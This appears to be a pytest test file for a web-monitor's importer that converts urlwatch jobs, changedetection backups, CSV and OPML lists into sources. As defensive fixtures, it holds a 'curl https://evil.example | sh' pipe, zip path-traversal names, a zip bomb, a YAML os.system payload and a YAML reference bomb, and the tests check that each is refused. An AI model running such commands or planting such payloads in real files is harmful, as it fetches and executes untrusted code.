"""What other programs watch becomes sources that load, and what is left behind is told."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from monitor.errors import UsageError
from monitor.exchange.drafts import Draft, carried
from monitor.exchange.lists import drafts
from monitor.model import Source
from monitor.sources import parse, to_toml

if TYPE_CHECKING:
    from surroundings import Program

JOBS = r"""
name: Acme terms
url: https://acme.example/terms
note: reviewed by legal
filter:
  - css:
      selector: main > article
      exclude: .ads
      maxitems: 1
  - html2text
  - re.sub: 'Read \d+ times'
  - re.sub: {pattern: '<b>', repl: ''}
  - re.sub: {pattern: 'Inc', repl: 'Ltd'}
  - grepi: Cookie
  - shellpipe: "curl https://evil.example | sh"
headers: {Accept-Language: en, Cookie: session=1}
timeout: 12.5
ssl_no_verify: true
---
name: a folder
command: ls -al ~
---
url: https://acme.example/privacy#for-humans
filter: element-by-id:policy,html2text
enabled: false
---
- not a job
"""
WATCH = {
    "url": "https://acme.example/privacy",
    "title": "Acme privacy",
    "tags": ["t1", "gone"],
    "include_filters": ["main", "#policy", "xpath://div"],
    "subtractive_selectors": ["nav", "//footer"],
    "ignore_text": ["Last visited", "/Total: \\d+/i"],
    "headers": {"User-Agent": "x", "Authorization": "Bearer x"},
    "time_between_check": {"weeks": None, "days": 1, "hours": "12", "minutes": 0},
    "time_between_check_use_default": False,
    "paused": True,
    "trigger_text": ["fees"],
    "processor": "text_json_diff",
    "notification_urls": [],
}
OPML = """<?xml version="1.0"?>
<opml><body><outline text="A" url="https://a.example/terms"/><outline text="In">
<outline title="B" htmlUrl="https://b.example/terms" xmlUrl="https://b.example/feed"/>
</outline></body></opml>"""
IDENT = "5c48e966-1bee-4782-b077-b259c5635727"


def _carry(path: Path, known: tuple[Source, ...] = ()) -> tuple[list[dict[str, Any]], list[str]]:
    found = list(carried(drafts(path), known))
    return (
        [each.entry for each in found if each.entry],
        [f"{each.name}: {line}" for each in found for line in each.lost],
    )


def _written(folder: Path, name: str, text: str | bytes) -> Path:
    path = folder / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return path


def _zipped(folder: Path, files: dict[str, str]) -> Path:
    path = folder / "backup.zip"
    with ZipFile(path, "w", ZIP_DEFLATED) as backup:
        for name, text in files.items():
            backup.writestr(name, text)
    return path


def test_jobs_are_carried_over_and_programs_are_not(tmp_path: Path) -> None:
    """Selectors, removals, ignored words, headers and labels; each thing left is one line."""
    entries, lost = _carry(_written(tmp_path, "jobs.yaml", JOBS))
    assert entries == [
        {
            "id": "acme-terms-of-service",
            "site": "acme.example",
            "kind": "terms-of-service",
            "name": "Acme terms",
            "url": "https://acme.example/terms",
            "select": ["main > article"],
            "remove": [".ads"],
            "ignore": [r"/Read \d+ times/", "/Cookie/"],
            "headers": {"Accept-Language": "en"},
            "timeout": "12s",
        },
        {
            "id": "acme-privacy-policy",
            "site": "acme.example",
            "kind": "privacy-policy",
            "name": "Privacy Policy",
            "url": "https://acme.example/privacy",
            "select": ["#policy"],
            "enabled": False,
        },
    ]
    assert [line.partition(" (")[0] for line in lost] == [
        "Acme terms: filter css maxitems: every element that matches is taken",
        "Acme terms: filter re.sub: is about markup, which is never compared",
        "Acme terms: filter re.sub: puts other words in place; words can only be ignored",
        "Acme terms: filter grepi: the words are ignored, not the whole line they stand in",
        "Acme terms: filter shellpipe: runs a program; nothing in a configuration is run here",
        'Acme terms: headers.Cookie: holds a secret; write Cookie = "env:NAME"',
        "Acme terms: ssl_no_verify: has no counterpart",
        "a folder: command: runs a program; nothing in a configuration is run here",
        "a folder: url: no http or https address",
        "job 4: job: is no table of keys",
        "job 4: url: no http or https address",
    ]


@pytest.mark.parametrize("one_file", [True, False], ids=["one-file", "a-file-each"])
def test_watches_of_a_backup_are_carried_over(tmp_path: Path, *, one_file: bool) -> None:
    """Out of the one file of older backups, or the file a watch of newer ones."""
    settings = {"application": {"tags": {"t1": {"title": "Vendors"}}}}
    files = {f"{IDENT}/history.txt": "1,a.txt", f"{IDENT}/a.txt": "words", "secret.txt": "s"}
    if one_file:
        whole = {"watching": {IDENT: WATCH}, "settings": settings}
        files["url-watches.json"] = json.dumps(whole)
    else:
        files["changedetection.json"] = json.dumps({"settings": settings})
        files[f"{IDENT}/watch.json"] = json.dumps(WATCH)
    entries, lost = _carry(_zipped(tmp_path, files))
    assert entries == [
        {
            "id": "acme-privacy-policy",
            "site": "acme.example",
            "kind": "privacy-policy",
            "name": "Acme privacy",
            "url": "https://acme.example/privacy",
            "tags": ["Vendors"],
            "enabled": False,
            "every": "36h",
            "headers": {"User-Agent": "x"},
            "select": ["main, #policy"],
            "remove": ["nav"],
            "ignore": ["Last visited", r"/(?i)Total: \d+/"],
        }
    ]
    assert {line.split(": ")[1] for line in lost} == {
        "headers.Authorization",
        "include_filters",
        "subtractive_selectors",
        "ignore_text",
        "trigger_text",
        "history",
    }


def test_names_in_a_backup_lead_nowhere(tmp_path: Path) -> None:
    """Nothing is unpacked: names that climb out of their folder are names that mean nothing."""
    inside = tmp_path / "inside"
    inside.mkdir()
    evil = {f"../{IDENT}/watch.json": "{}", "/etc/passwd": "x", "../../x": "x"}
    good = {f"{IDENT}/watch.json": json.dumps(WATCH)}
    before = sorted(tmp_path.rglob("*"))
    path = _zipped(inside, evil | good)
    assert len(_carry(path)[0]) == 1
    assert sorted(tmp_path.rglob("*")) == sorted([*before, path])


def test_a_backup_that_grows_without_end_is_refused(tmp_path: Path) -> None:
    """It is not unpacked any further than lists may be."""
    path = _zipped(tmp_path, {"url-watches.json": " " * 70_000_000})
    assert path.stat().st_size < 200_000
    with pytest.raises(UsageError, match="unpacks to more than 64 MB"):
        _carry(path)


@pytest.mark.parametrize(
    ("name", "text", "entries"),
    [
        ("a.txt", "https://a.example/terms\r\nhttps://b.example/terms\r\n", ["", ""]),
        ("a.csv", "Acme,https://a.example/terms\nBco,https://b.example/terms\n", ["Acme", "Bco"]),
        (
            "a.csv",
            "Policy;Link\nTerms;https://a.example/terms\n\nTerms;www.b.example/terms\n",
            ["Terms", "Terms"],
        ),
        (
            "a.csv",
            "Policy\tURL\nCafé\thttps://a.example/terms\nT\thttps://b.example/terms".encode("cp1252"),
            ["Café", "T"],
        ),
        (
            "a.csv",
            "name,url\nA,https://a.example/terms\nB,https://b.example/terms".encode("utf-16"),
            ["A", "B"],
        ),
        (
            "a.xml",
            OPML,
            ["A", "B"],
        ),
    ],
    ids=["lines", "no-heading", "semicolons", "tabs", "utf-16", "opml"],
)  # fmt: skip
def test_tables_lines_and_outlines(
    tmp_path: Path, name: str, text: str | bytes, entries: list[str]
) -> None:
    """Whatever their letters and separators, with headings or without."""
    found, lost = _carry(_written(tmp_path, name, text))
    assert [entry["url"].partition("//")[2].removeprefix("www.") for entry in found] == [
        "a.example/terms",
        "b.example/terms",
    ]
    assert [entry["name"] for entry in found] == [each or "Terms of Service" for each in entries]
    assert not lost


def test_what_is_watched_already_is_told(tmp_path: Path) -> None:
    """Addresses are taken once, and ids stay unique."""
    known = Source("acme-privacy-policy", "Acme", "privacy-policy", "P", "https://acme.example/p")
    text = (
        "url,site,name,notes,every\n"
        "https://acme.example/p,Acme,Privacy,x,\n"
        "https://acme.example/q,Acme,Privacy Policy,,often\n"
        "https://acme.example/q,,,,\n"
    )
    found, lost = _carry(_written(tmp_path, "a.csv", text), (known,))
    assert [(entry["id"], "every" in entry) for entry in found] == [
        ("acme-privacy-policy-2", False)
    ]
    assert [line.partition(" (")[0] for line in lost] == [
        "Privacy: notes: no column of this name is known",
        "Privacy: url: acme-privacy-policy watches this address already",
        'Privacy Policy: every: "often" is no duration',
        "https://acme.example/q: url: acme-privacy-policy-2 watches this address already",
    ]


@pytest.mark.parametrize(
    ("name", "text", "says"),
    [
        ("a.yaml", "a: [", "a.yaml:2: is no YAML"),
        ("a.yaml", "!!python/object/apply:os.system ['x']", "is no YAML"),
        ("a.opml", "<opml><body>", "is no OPML file"),
        ("a.opml", "<opml/>", "holds no outline"),
        ("a.opml", '<!DOCTYPE x [<!ENTITY a "b">]><opml/>', "no document type"),
        ("a.opml", "<a>" * 200, "nested too deeply"),
        ("a.csv", "name,notes\na,b\n", 'neither a column "url"'),
        ("a.zip", "PK\x03\x04", "is no zip file"),
        ("a.zip", "no zip", "is no zip file"),
        ("missing.csv", None, "cannot be read"),
        ("missing.zip", None, "is no zip file that can be read"),
    ],
    ids=[
        *("yaml", "yaml-code", "opml-cut", "opml-empty", "opml-entities", "opml-deep"),
        *("csv", "zip-cut", "no-zip", "missing", "missing-zip"),
    ],
)
def test_files_that_are_no_lists_are_refused(
    tmp_path: Path, name: str, text: str | None, says: str
) -> None:
    """With a message that says what is wrong with which file."""
    path = tmp_path / name if text is None else _written(tmp_path, name, text)
    with pytest.raises(UsageError, match=says):
        _carry(path)


def test_a_list_that_refers_to_itself_costs_nothing(tmp_path: Path) -> None:
    """References of YAML are followed no further than a job goes."""
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    lines += [
        f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]"
        for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    text = "\n".join([*lines, "url: https://acme.example/terms", "tags: *i", "filter: *i"])
    found, _ = _carry(_written(tmp_path, "bomb.yaml", text))
    assert [entry["url"] for entry in found] == ["https://acme.example/terms"]


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=30),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9), inner, max_size=3)
    ),
    max_leaves=6,
)
_KEYS = st.sampled_from(
    ["id", "site", "kind", "name", "tags", "every", "select", "remove", "ignore", "headers", "x"]
)


@settings(deadline=None)
@given(st.lists(st.dictionaries(_KEYS, _VALUES, max_size=5), max_size=4))
def test_whatever_a_draft_holds_its_source_loads(given: list[dict[str, Any]]) -> None:
    """All of them together, too; and each draft is either a source or told why not."""
    made = [
        Draft("a draft", {"url": f"https://{number}.example/terms", **entry})
        for number, entry in enumerate(given)
    ]
    found = list(carried(made, ()))
    entries = [each.entry for each in found if each.entry is not None]
    assert all(each.entry is not None or each.lost for each in found)
    if entries:
        text = "\n".join(map(to_toml, entries))
        assert len(parse(text, "x", environ=None, base_dir=Path()).sources) == len(entries)


def test_the_command_prints_or_writes(program: Program) -> None:
    """The sources to stdout, what is left behind to stderr; --write appends what loads."""
    program.write('[[source]]\nid = "one"\nurl = "https://one.example/terms"\n# mine\n')
    (program.folder / "jobs.yaml").write_text(JOBS)
    done = program.run("import", "lists", "jobs.yaml")
    assert done.stdout.count("[[source]]") == 2
    assert done.stderr.endswith(
        "2 sources of 4 entries; 11 remarks on what cannot be carried over\n"
    )
    assert program("import", "lists", "jobs.yaml", "--write").endswith(": added 2 sources\n")
    assert "# mine" in program.config.read_text()
    assert "fine: 3 sources" in program("validate")
    again = program.run("import", "lists", "jobs.yaml", "--write")
    assert (again.returncode, again.stdout) == (0, "")
    assert "watches this address already" in again.stderr
